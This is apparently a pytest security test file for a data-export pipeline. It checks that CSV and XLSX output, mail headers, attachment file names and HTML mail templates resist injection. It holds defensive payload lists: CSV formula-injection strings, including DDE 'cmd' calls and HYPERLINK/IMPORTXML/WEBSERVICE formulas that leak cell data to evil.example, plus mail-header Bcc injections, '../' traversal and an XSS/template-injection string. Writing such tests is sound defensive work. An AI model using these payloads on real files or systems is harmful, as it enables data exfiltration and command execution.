"""Text that somebody else wrote is text wherever it goes: cells, headers, names of files, mails, pages.

What the everyday tests show already is named in SECURITY.md; here the lists are long, and the readers are real.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime
from email import message_from_bytes, policy
from email.headerregistry import Address
from html.parser import HTMLParser
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from export_pipeline.catalog.types import ColumnType, OutputColumn
from export_pipeline.failures import Fault
from export_pipeline.messaging.content import FailureMail, ReadyFile, ReadyMail, failure_message, ready_message
from export_pipeline.messaging.message import Attachment, Message
from export_pipeline.messaging.mime import to_mime
from export_pipeline.messaging.sendgrid import SendGridMail
from export_pipeline.messaging.texts import CATALOG
from export_pipeline.requests.validation.mail import _one_line
from export_pipeline.source.lookups import _UNUSABLE_KEY
from export_pipeline.stages.manifest import file_name
from export_pipeline.storage.store import content_disposition
from export_pipeline_tests.contract.format_samples import table_of, write_all
from export_pipeline_tests.faults.conftest import Tally
from export_pipeline_tests.servers.sendgrid import API_KEY, SendGridSink

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
"""OWASP, CSV Injection; the last four are the fullwidth forms, which some spreadsheets read as the others."""
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://evil.example/?leak="&A1&B1,"Click")',
    'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    'WEBSERVICE("http://evil.example/"&A1)',
    "SUM(1,2)",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "A1",
    "1;=1+1",
]
ATTACKS = [f"{sign}{body}" for sign in SIGNS for body in BODIES]
NEW_CELLS = [
    f"{opening}{attack}{closing}"
    for attack in ("=1+1", "@SUM(1)", "+cmd|' /C calc'!A0")
    for opening in ("x,", 'x",', 'x";"', "x\t", "x|", "x\n", 'x"\n', 'x""",', "x\r\n")
    for closing in ("", ',"', "\n")
]
"""Values that would begin a cell of their own if separators, quotes or line breaks were not kept in."""
PLAIN = [
    "-12.5", "-1,234.50", "-1e5", "+3", "-.5", "-5%", "+55 (11) 91234-5678", "+1-555-123-4567", "+5511912345678",
    "+49 89/1234 56", "-", "+", "007", "a=b", "me@example.com", "1+1", "",
]  # fmt: skip
TEXT = (OutputColumn("id", "id", ColumnType.INTEGER), OutputColumn("v", "v", ColumnType.TEXT))
RUNS = re.compile(r"^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def _written(file_format: str, values: list[str], **options: Any) -> bytes:
    table = table_of({"id": list(range(len(values))), "v": values}, TEXT)
    (content,) = write_all(file_format, table, columns=TEXT, **options).contents
    return content


@pytest.mark.parametrize("quoting", ["necessary", "non_empty"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_text_becomes_a_formula_or_a_cell_in_csv_and_numbers_stay(
    delimiter: str, quoting: str, tally: Tally
) -> None:
    values = [*ATTACKS, *NEW_CELLS, *PLAIN]
    content = _written("csv", values, csv_delimiter=delimiter, csv_quoting=quoting)
    rows = list(csv.reader(io.StringIO(content.decode(), newline=""), delimiter=delimiter))[1:]
    assert {len(row) for row in rows} == {2}
    cells = [row[1] for row in rows]
    harmless = len(values) - len(PLAIN)
    assert not [cell for cell in cells[:harmless] if RUNS.match(cell)]
    assert [cell.removeprefix("'") for cell in cells[:harmless]] == values[:harmless]
    assert cells[harmless:] == PLAIN
    tally("formula in a CSV cell", tries=harmless, survived=harmless)


def test_no_text_becomes_a_formula_or_a_link_in_xlsx_and_nothing_is_changed(tally: Tally) -> None:
    values = [value for value in (*ATTACKS, *NEW_CELLS, *PLAIN) if "\r" not in value]
    content = _written("xlsx", values)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    assert [cell.value or "" for cell in cells] == values
    assert [
        row[1] for row in CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()[1:]
    ] == values
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [
            name for name in archive.namelist() if re.search("external|vba|connection|query", name, re.IGNORECASE)
        ]
        assert not any(re.search(rb"<f[ >]|<hyperlink|ddeLink", archive.read(name)) for name in archive.namelist())
    tally("formula in an XLSX cell", tries=len(values), survived=len(values))


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_header_becomes_a_formula(delimiter: str) -> None:
    """An organization names its custom fields itself, and they are headers."""
    headers = [header for header in (*ATTACKS, *NEW_CELLS) if not _UNUSABLE_KEY.search(header)]
    assert len(headers) > 50
    columns = tuple(OutputColumn(f"c{at}", header, ColumnType.TEXT) for at, header in enumerate(headers))
    table = table_of({column.name: ["x"] for column in columns}, columns)
    (content,) = write_all("csv", table, columns=columns, key="c0", csv_delimiter=delimiter).contents
    header, _ = csv.reader(io.StringIO(content.decode(), newline=""), delimiter=delimiter)
    assert [cell.removeprefix("'") for cell in header] == headers
    assert not [cell for cell in header if RUNS.match(cell)]
    (plain,) = write_all(
        "csv", table, columns=columns, key="c0", csv_delimiter=delimiter, guard_formulas=False
    ).contents
    assert next(csv.reader(io.StringIO(plain.decode(), newline=""), delimiter=delimiter)) == headers


LINES = ["\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x00", "\x1b[2J"]
TURNS = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
QUOTES = ['"', "'", "<", ">", ";", ",", "\\", "/", "../", "%0d%0a", "=?utf-8?q?x?="]
INTERRUPTIONS = [*LINES, *TURNS, *QUOTES]
EVIL = [f"Ana{between}Bcc: eve@evil.example{between}X: y" for between in INTERRUPTIONS]
ONCE = ("from", "to", "subject", "date", "message-id", "auto-submitted", "mime-version", "content-type")


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
def test_no_name_or_title_adds_a_header_to_a_mail_or_turns_it_around(evil: str) -> None:
    # The display name of a sender is made fit where it is read (requests.senders).
    message = Message(
        sender=Address(_one_line(evil) or "", addr_spec="exports@example.com"),
        recipient="ana@example.com",
        subject=ready_message(replace(READY, dataset_titles={"en": evil}), "en")[0],
        text="text",
        html="<p>html</p>",
        message_id=evil,
        attachments=(Attachment(evil, "text/csv", b"1"),),
    )
    raw = to_mime(message).as_bytes()
    head = raw.split(b"\r\n\r\n", 1)[0].decode()
    names = [line.split(":")[0].lower() for line in head.split("\r\n") if not line.startswith((" ", "\t"))]
    assert sorted(names) == sorted(ONCE)
    parsed = message_from_bytes(raw, policy=policy.default)
    assert [one.addr_spec for one in parsed["From"].addresses] == ["exports@example.com"]
    assert [one.addr_spec for one in parsed["To"].addresses] == ["ana@example.com"]
    (attached,) = parsed.iter_attachments()
    for shown in (str(parsed["Subject"]), str(parsed["From"]), attached.get_filename() or ""):
        assert not set(shown) & set("".join([*LINES[:-1], *TURNS, "\x1b"]))


@pytest.mark.parametrize("evil", [EVIL[0], EVIL[len(LINES) + 4]], ids=ascii)
def test_the_same_holds_for_the_providers_api(sendgrid_sink: SendGridSink, evil: str) -> None:
    provider = SendGridMail(API_KEY, sendgrid_sink.url)
    sender = Address(_one_line(evil) or "", addr_spec="exports@example.com")
    provider.send(
        Message(sender, "ana@example.com", evil, "text", "<p>html</p>", "id", (Attachment(evil, "a/b", b"1"),))
    )
    (taken,) = sendgrid_sink.accepted
    (personalization,) = taken["personalizations"]
    assert personalization["to"] == [{"email": "ana@example.com"}]
    assert not {"cc", "bcc", "headers"} & set(personalization)
    for shown in (taken["subject"], taken["from"]["name"], taken["attachments"][0]["filename"]):
        assert not set(shown) & set("".join([*LINES, *TURNS]) + "\x1b") - {"[", "2", "J"}


@pytest.mark.parametrize("evil", EVIL, ids=ascii)
def test_no_name_leads_out_of_its_directory_or_its_header(evil: str) -> None:
    assert re.fullmatch(r"[A-Za-z0-9_.-]+", file_name(evil, date(2026, 1, 1), "uid", None, "csv"))
    header = content_disposition(f"{evil}.csv")
    assert header.isascii()
    assert header.isprintable()
    assert (header.count('"'), header.count(";") in (1, 2)) == (2, True)
    assert not [turn for turn in (*TURNS, "/", "\\") if turn in _as_a_browser_names_it(header)]


def _as_a_browser_names_it(header: str) -> str:
    from urllib.parse import unquote

    extended = re.search(r"filename\*=UTF-8''(\S+)", header)
    return unquote(extended.group(1)) if extended else re.findall(r'filename="(.*?)"', header)[0]


MARKUP = (
    '"><script>alert(1)</script><img src=x onerror=y><a href="javascript:z">\'</td></table>{{ 7*7 }}{% raw %}&lt;b&gt;'
)
WHEN = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)
READY = ReadyMail(
    dataset_titles={"en": "Contacts", "es": "Contactos", "pt": "Contatos"},
    rows=3,
    files=(ReadyFile("a.csv", 10, "https://host.example/a"), ReadyFile("b.csv", 10, None)),
    snapshot_at=WHEN,
    expires_at=WHEN,
    time_zone="UTC",
    organization_name="Acme",
    counters={"guarded_cells": 1},
    unsubscribe_url="https://host.example/u",
)
FAILED = FailureMail(
    fault=Fault.OURS,
    error_code="internal_error",
    details="It failed.",
    reference="uid",
    asked_at=WHEN,
    time_zone="UTC",
    dataset_titles={"en": "Contacts", "es": "Contactos", "pt": "Contatos"},
    organization_name="Acme",
)


class Skeleton(HTMLParser):
    """A page without its words: tags and the names of their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[tuple[str, tuple[str, ...]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append((tag, tuple(name for name, _ in attrs)))
        self.words += [value or "" for _, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.parts.append((f"/{tag}", ()))

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def poisoned(value: Any, evil: str) -> Any:
    """The same, with ``evil`` behind every text that it holds, however deep; those of a closed set stay."""
    if isinstance(value, str) and not isinstance(value, Fault):
        return value + evil
    if isinstance(value, tuple):
        return tuple(poisoned(one, evil) for one in value)
    if isinstance(value, dict):
        return {key: poisoned(one, evil) for key, one in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        return replace(value, **{one.name: poisoned(getattr(value, one.name), evil) for one in fields(value)})
    return value


@pytest.mark.parametrize("language", list(CATALOG))
@pytest.mark.parametrize(
    "mail", [READY, *[replace(FAILED, fault=fault) for fault in Fault], replace(FAILED, paused_recurring=7)],
    ids=lambda mail: f"{type(mail).__name__} {getattr(mail, 'fault', '')} {getattr(mail, 'paused_recurring', '')}",
)  # fmt: skip
def test_every_variable_of_every_mail_is_escaped_in_every_language(mail: Any, language: str, tally: Tally) -> None:
    write: Any = ready_message if isinstance(mail, ReadyMail) else failure_message
    evil = poisoned(mail, MARKUP)
    plain, html = Skeleton(write(mail, language)[2]), write(evil, language)[2]
    attacked = Skeleton(html)
    assert attacked.parts == plain.parts
    # Everything that was poisoned is shown as it is (an unknown zone is UTC, a title is of one language).
    shown = sum(MARKUP in word for word in attacked.words)
    assert shown >= (7 if isinstance(mail, ReadyMail) else 4)
    assert "49" not in re.sub(r"\d{3,}|#\w+", "", "".join(attacked.words)).replace("{{ 7*7 }}", "")
    tally("markup in a mail", tries=1, survived=1)


def test_no_template_lets_anything_through_unescaped() -> None:
    from importlib import resources

    templates = list((resources.files("export_pipeline.messaging") / "templates").iterdir())
    assert len([one for one in templates if one.name.endswith(".html.j2")]) >= 3
    for one in templates:
        assert not re.search(r"\|\s*safe|autoescape|Markup|\|\s*tojson", one.read_text()), one.name
